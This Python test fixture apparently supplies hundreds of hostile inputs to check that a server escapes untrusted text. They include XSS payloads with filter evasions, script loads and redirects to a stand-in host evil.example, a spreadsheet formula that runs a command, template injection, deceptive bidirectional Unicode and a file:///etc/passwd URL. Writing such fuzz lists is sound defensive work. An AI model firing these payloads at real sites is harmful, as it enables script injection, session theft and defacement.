"""What strangers write to make a browser do something: every known way to begin a script, a request or a page of one's
own, and what turns or hides the words around it. ``caught`` is what a payload calls when it got through."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from functools import cache

from tests import effort

_CALL = "caught()"

MARKUP = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt >{_CALL}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>{_CALL}",
    f"<script/x>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<!--><script>{_CALL}</script-->",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"<img src=x:x onerror='{_CALL}'//",
    f"<img/src='x'/onerror={_CALL}>",
    f"<img src=`x` onerror={_CALL}>",
    f"<img srcset='x 1x' onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text x=20 y=20>x</text></a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<p onmouseover={_CALL}>x</p>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<a href='java&#x09;script:{_CALL}'>x</a>",
    f"<form action='javascript:{_CALL}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{_CALL}' autofocus>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>x</div>",
    "</bdi></div></main><h1>Owned</h1>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<xmp><img src=x onerror={_CALL}></xmp>",
)
TEXT = (
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"'-{_CALL}-'",
    f"\\'-{_CALL}//",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"＜script＞{_CALL}＜/script＞",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    "\u202egpj.exe\u202c invoice\u202e",
    "\u2066\u2067\u2068isolated\u2069\u2069\u2069",
    "\u200f\u061cright to left\u200e",
    "zero\u200bwidth\u200cjoin\u200der\u2060\ufeff",
    "soft\u00adhyphen and \u034f grapheme joiner",
    "\U000e0041\U000e0042 tag characters",
    "Zalgo" + "\u0300\u0301\u0302\u0303" * 30,
    "long" * 500,
    "https://evil.example/" + "a" * 600,
    "\ue000mark\ue001 and \u2028 line \u2029 paragraph",
    "bell \x07 escape \x1b[2J and delete \x7f",
)
#: What stands around an attack so that what cleans, escapes or reads it overlooks it.
_AROUND = (
    "{}",
    "-->{}",
    "]]>{}",
    "\"'>{}",
    "`>{}",
    "</script>{}",
    "</style>{}",
    "</title>{}",
    "</textarea>{}",
    "</noscript>{}",
    "\u202e{}\u202c",
    "\u2066{}\u2069",
    "\u200b{}\u200d",
    "\ufeff{}",
    "\x00{}",
    "\x1b[2J{}",
    "\r\n\r\n{}",
    "\u2028{}",
    "={}",
    "+{}",
    "-{}",
    "@SUM({})",
    "\t={}",
    "=cmd|' /C calc'!A0{}",
    '=HYPERLINK("//evil.example","{}")',
    '","x":"{}',
    "}}}}{}{{{{",
    "{{% raw %}}{}",
    "${{{}}}",
    "#{{{}}}",
    "[x]({})",
    "![x]({})",
    "url({})",
    "expression({})",
    "a\u0301\u0301\u0301{}",
    "\u0430\u0440\u0440\u04cf\u0435{}",
    "\U0001f469\u200d{}",
    "%00{}",
    "&#x3c;{}",
    "\\x3c{}",
)
_OTHER = (
    "\ud800 half of a pair",
    "\x00\x01\x02\x1f\x7f\x80\x9f",
    "\x1b]0;title\x07",
    "\x1b[31mred",
    "\u202e" * 300,
    "\u0301" * 900,
    "W" * 1900,
    "\u3000" * 900,
    "\n" * 900,
    "-" * 1900,
    "\ufdfd" * 400,
    "\u0e49" * 900,
    "a\u00ad" * 900,
    "\U0001f3f3\ufe0f\u200d" * 200,
    "file:///etc/passwd",
    "vbscript:x",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "data:,x",
)


def more(count: int) -> Iterator[str]:
    """So many other ones, always the same: every attack in other surroundings each time."""
    made = (
        _AROUND[(number * 7 + turn * 13 + 1) % len(_AROUND)].format(attack)
        for turn in itertools.count()
        for number, attack in enumerate((*MARKUP, *TEXT[:12]))
    )
    new = (one for one in dict.fromkeys(itertools.chain(_OTHER, itertools.islice(made, 3 * count))) if one not in FEW)
    yield from itertools.islice(new, count)


FEW = (*MARKUP, *TEXT)


@cache
def payloads() -> tuple[str, ...]:
    """All of them; in the long run 500."""
    return (*FEW, *more(500 - len(FEW))) if effort.long else FEW


def as_html(payload: str) -> bool:
    """Whether a server sends it as it is, as HTML."""
    return payload in MARKUP or (payload not in FEW and "<" in payload)
